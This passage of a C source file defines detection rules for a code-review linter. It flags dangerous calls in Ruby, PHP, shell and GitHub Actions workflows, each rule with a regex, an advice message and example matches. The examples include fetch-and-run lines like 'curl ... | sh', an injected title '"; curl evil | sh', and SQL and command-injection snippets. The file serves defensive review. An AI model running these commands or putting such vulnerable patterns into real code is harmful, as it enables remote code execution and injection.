			"eval runs a string as Ruby code: any input in it ca"
			"n do anything the process can; use send with an all"
			"ow-list of method names, or parse the data",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"ruby"),
		.keywords = REVIEW_STRV(
			"eval"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"eval(params[:code])", "instance_eval code"),
		.examples_false = REVIEW_STRV(
			"# eval(x)", "class_eval do", "evaluate(x)",
			"eval(\"1 + 1\")"),
	},
	{
		.id = "risky/ruby-shell-interpolation",
		.pattern =
			"(?:\\b(?:system|exec|spawn)\\s*\\(?\\s*\"[^\"\\n]*#"
			"\\{|`[^`\\n]*#\\{|%x[({\\[][^)}\\]\\n]*#\\{)",
		.exclude_line = "^[ \\t]*#",
		.message =
			"a shell command built by interpolation: a value wit"
			"h a quote, ; or $() in it injects commands; pass th"
			"e arguments separately, system(\"git\", \"log\", br"
			"anch)",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"ruby"),
		.keywords = REVIEW_STRV(
			"#{"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"system(\"git log #{branch}\")", "out = `ls #{dir}`"),
		.examples_false = REVIEW_STRV(
			"system(\"git\", \"log\", branch)",
			"puts \"hello #{name}\"", "# system(\"x #{y}\")"),
	},
	{
		.id = "risky/ruby-marshal-load",
		.pattern = "\\bMarshal\\.(?:load|restore)\\s*[( ]",
		.exclude_line = "^[ \\t]*#",
		.message =
			"Marshal.load builds arbitrary objects from the data"
			", which can run code: never load untrusted input; u"
			"se JSON",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"ruby"),
		.keywords = REVIEW_STRV(
			"Marshal."),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"obj = Marshal.load(data)"),
		.examples_false = REVIEW_STRV(
			"Marshal.dump(obj)", "# Marshal.load(x)"),
	},
	{
		.id = "risky/ruby-yaml-load",
		.pattern = "\\b(?:YAML|Psych)\\.(?:unsafe_load|load)\\s*[( ]",
		.exclude_line = "^[ \\t]*#",
		.message =
			"YAML.load (before Psych 4) and YAML.unsafe_load bui"
			"ld arbitrary objects, which can run code; use YAML."
			"safe_load with permitted_classes",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"ruby"),
		.keywords = REVIEW_STRV(
			"YAML.", "Psych."),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"config = YAML.load(File.read(path))",
			"Psych.unsafe_load(s)"),
		.examples_false = REVIEW_STRV(
			"YAML.safe_load(s)", "YAML.load_file(p)",
			"# YAML.load(x)"),
	},
	{
		.id = "risky/ruby-sql-interpolation",
		.pattern =
			"\\.(?:where|find_by_sql|execute|exec_query|select_a"
			"ll|order|joins|group|having)\\s*\\(\\s*\"[^\"\\n]*#"
			"\\{",
		.exclude_line = "^[ \\t]*#",
		.message =
			"an SQL fragment built by interpolation: a quote in "
			"the value changes the query (SQL injection); use pl"
			"aceholders, where(\"id = ?\", id), or a hash, where"
			"(id: id)",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"ruby"),
		.keywords = REVIEW_STRV(
			"#{"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"User.where(\"name = '#{params[:name]}'\")",
			"conn.execute(\"DELETE FROM t WHERE id = #{id}\")"),
		.examples_false = REVIEW_STRV(
			"User.where(\"name = ?\", name)",
			"User.where(name: name)",
			"# User.where(\"x = #{y}\")"),
	},
	{
		.id = "risky/php-eval",
		.pattern = "(?<![\\w>$:])eval\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)|^[ \\t]*#",
		.message =
			"eval() runs a string as PHP code: any input in it c"
			"an do anything the server can; remove it and dispat"
			"ch through an allow-listed array of callables",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"php"),
		.keywords = REVIEW_STRV(
			"eval"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"eval($code);", "eval(\"return \" . $expr . \";\");"),
		.examples_false = REVIEW_STRV(
			"// eval($code)", "$x->eval($y);", "evaluate($x);"),
	},
	{
		.id = "risky/php-shell-exec",
		.pattern =
			"(?<![\\w>$:])(?:exec|shell_exec|system|passthru|pop"
			"en|proc_open)\\s*\\(",
		.exclude_line = "^[ \\t]*(?://|/?\\*)|^[ \\t]*#",
		.message =
			"this runs a command line through the shell: a value"
			" spliced into it injects commands; avoid it, or esc"
			"ape every argument with escapeshellarg()",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"php"),
		.keywords = REVIEW_STRV(
			"exec", "system", "passthru", "popen", "proc_open"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"shell_exec(\"ls \" . $dir);", "system($cmd);"),
		.examples_false = REVIEW_STRV(
			"$pdo->exec($sql);", "// system($cmd)",
			"my_system($x);"),
	},
	{
		.id = "risky/php-unserialize",
		.pattern = "(?<![\\w>$:])unserialize\\s*\\(",
		.exclude_line =
			"^[ \\t]*(?://|/?\\*)|^[ \\t]*#|allowed_classes",
		.message =
			"unserialize() on untrusted data instantiates arbitr"
			"ary classes and runs their magic methods (object in"
			"jection); use json_decode(), or pass ['allowed_clas"
			"ses' => false]",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"php"),
		.keywords = REVIEW_STRV(
			"unserialize"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"$obj = unserialize($_COOKIE[\"data\"]);"),
		.examples_false = REVIEW_STRV(
			"$o = json_decode($s, true);",
			"unserialize($s, ['allowed_classes' => false]);",
			"// unserialize($x)"),
	},
	{
		.id = "risky/php-sql-interpolation",
		.pattern =
			"(?:->(?:query|exec|prepare)|\\bmysqli?_query\\s*\\("
			"\\s*\\$\\w+\\s*,)\\s*\\(?\\s*(?:\"(?i:\\s*(?:select"
			"|insert|update|delete)\\b)[^\"\\n]*\\$|[\"\\'](?i:"
			"\\s*(?:select|insert|update|delete)\\b)[^\"\\'\\n]*"
			"[\"\\']\\s*\\.\\s*\\$)",
		.exclude_line = "^[ \\t]*(?://|/?\\*)|^[ \\t]*#",
		.message =
			"an SQL statement with a variable spliced in: a quot"
			"e in it changes the query (SQL injection); use a pr"
			"epared statement with bound parameters",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"php"),
		.keywords = REVIEW_STRV(
			"query", "exec", "prepare"),
		.keywords_local = 1,
		/* calls and queries are often spread over lines */
		.multiline = 1,
		.examples_true = REVIEW_STRV(
			"$db->query(\"SELECT * FROM t WHERE id = $id\");",
			"mysqli_query($c, \"DELETE FROM t WHERE id = \" . $i"
			"d);",
			"$db->query(\n  \"SELECT * FROM t WHERE id = $id\"\n);"),
		.examples_false = REVIEW_STRV(
			"$st = $db->prepare(\"SELECT * FROM t WHERE id = ?\""
			");",
			"// $db->query(\"SELECT $x\")"),
	},
	{
		.id = "risky/shell-curl-pipe-sh",
		.pattern =
			"\\b(?:curl|wget)\\b[^|\\n]*\\|\\s*(?:sudo\\s+)?(?:("
			"?:ba|z|da)?sh|python[0-9.]*)\\b",
		.exclude_line = "^[ \\t]*#",
		.message =
			"piping a download straight into a shell runs whatev"
			"er the server (or anyone in between) sends, unrevie"
			"wed and unpinned; download to a file, check its che"
			"cksum or signature, then run it",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"bash", "dockerfile", "makefile", "yaml"),
		.keywords = REVIEW_STRV(
			"curl", "wget"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"curl -fsSL https://get.example.io | sh",
			"RUN wget -qO- https://x.io/install | sudo bash"),
		.examples_false = REVIEW_STRV(
			"curl -fsSLo install.sh https://x.io/install",
			"curl -s https://x.io/a.json | jq .",
			"# curl https://x | sh"),
	},
	{
		.id = "risky/shell-chmod-777",
		.pattern = "\\bchmod\\s+(?:-[A-Za-z]+\\s+)*0?777\\b",
		.exclude_line = "^[ \\t]*#",
		.message =
			"mode 777 lets every user on the machine change the "
			"file or directory, or plant files in it; grant only"
			" what is needed, e.g. 755 for directories and progr"
			"ams, 644 for files",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"bash", "dockerfile", "makefile", "yaml"),
		.keywords = REVIEW_STRV(
			"chmod"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"chmod 777 /app", "RUN chmod -R 0777 /data"),
		.examples_false = REVIEW_STRV(
			"chmod 755 /app", "chmod 7775 x", "# chmod 777 x"),
	},
	{
		.id = "risky/shell-eval-variable",
		.pattern = "\\beval\\s+[\"\\']?\\$",
		.exclude_line = "^[ \\t]*#",
		.message =
			"eval of a variable re-parses its contents as shell "
			"code: anything in it runs; use arrays for argument "
			"lists and case for dispatch",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"bash"),
		.keywords = REVIEW_STRV(
			"eval"),
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"eval \"$cmd\"", "eval $(ssh-agent -s)"),
		.examples_false = REVIEW_STRV(
			"eval \"export A=1\"", "# eval \"$cmd\""),
	},
	{
		.id = "risky/gha-script-injection",
		.pattern =
			"\\$\\{\\{\\s*github\\.event\\.(?:issue\\.(?:title|b"
			"ody)|pull_request\\.(?:title|body|head\\.ref|head\\"
			".label)|comment\\.body|review\\.body|review_comment"
			"\\.body|discussion\\.(?:title|body)|head_commit\\.("
			"?:message|author\\.(?:email|name))|commits\\b[^}]*"
			"\\.(?:message|author)|pages\\b[^}]*\\.page_name|wor"
			"kflow_run\\.head_branch)",
		.exclude_line = "^[ \\t]*#",
		.message =
			"text an outsider controls (an issue title, a PR bod"
			"y, a branch name) is pasted into the workflow befor"
			"e the shell parses it: a title like `\"; curl evil "
			"| sh` runs; pass it through env: and use \"$VAR\" i"
			"n the script",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"yaml"),
		.paths = REVIEW_STRV(
			".github/workflows/**"),
		.keywords = REVIEW_STRV(
			"github.event."),
		.keywords_local = 1,
		.example_path = ".github/workflows/ci.yml",
		.examples_true = REVIEW_STRV(
			"        run: echo \"${{ github.event.issue.title }}"
			"\"",
			"run: git checkout ${{ github.event.pull_request.hea"
			"d.ref }}"),
		.examples_false = REVIEW_STRV(
			"run: echo \"$TITLE\"",
			"if: ${{ github.event.pull_request.draft }}",
			"# ${{ github.event.issue.title }}"),
	},
	{
		.id = "risky/sql-concatenation",
		.pattern =
			"(?i)(?:\"\\s*(?:select\\b[^\"\\n]*?\\bfrom|insert\\"
			"s+into|update\\b[^\"\\n]*?\\bset|delete\\s+from)\\b"
			"[^\"\\n]*?(?:[=<>(,]|\\blike|\\bin)\\s*\\'?\"|\\'\\"
			"s*(?:select\\b[^\\'\\n]*?\\bfrom|insert\\s+into|upd"
			"ate\\b[^\\'\\n]*?\\bset|delete\\s+from)\\b[^\\'\\n]"
			"*?(?:[=<>(,]|\\blike|\\bin)\\s*\"?\\')\\s*(?:\\+|\\"
			".|\\|\\||&)\\s*(?![\"\\'`])[A-Za-z_$@]",
		.exclude_line = "^[ \\t]*(?://|/?\\*)|^[ \\t]*#",
		.message =
			"an SQL statement is built by concatenating a value "
			"into it: a quote in that value changes the query (S"
			"QL injection); use the driver's placeholders and pa"
			"ss the value as a parameter",
		.severity = REVIEW_SEV_WARNING,
		.languages = REVIEW_STRV(
			"java", "kotlin", "scala", "csharp", "javascript",
			"typescript", "python", "php", "ruby", "go", "groovy",
			"vue", "svelte", "perl", "swift", "dart", "rust", "c",
			"cpp"),
		.keywords = REVIEW_STRV(
			"select", "insert", "update", "delete"),
		.keywords_icase = 1,
		.keywords_local = 1,
		.examples_true = REVIEW_STRV(
			"String q = \"SELECT * FROM users WHERE id = \" + id"
			";",
			"sql = \"DELETE FROM t WHERE name = '\" + name + \"'"
			"\"",
			"$q = \"UPDATE t SET a = 1 WHERE id = \" . $id;"),
		.examples_false = REVIEW_STRV(
			"String q = \"SELECT * FROM users WHERE id = ?\";",
			"log(\"select a file from the list: \" + name)",
			"\"SELECT * FROM t \" + \"WHERE a = 1\"",
			"// \"SELECT * FROM t WHERE id = \" + id"),
	},
};

const struct review_rule_pack review_pack_risky = {
	.name = "risky",
	.summary = "dangerous calls per language: unbounded C string "
		   "functions, shell and eval injection, unsafe "
		   "deserialisation, SQL concatenation, TLS checks off",
	.rules = review_pack_risky_rules,
	.nr_rules = sizeof(review_pack_risky_rules) /
		    sizeof(review_pack_risky_rules[0]),
};
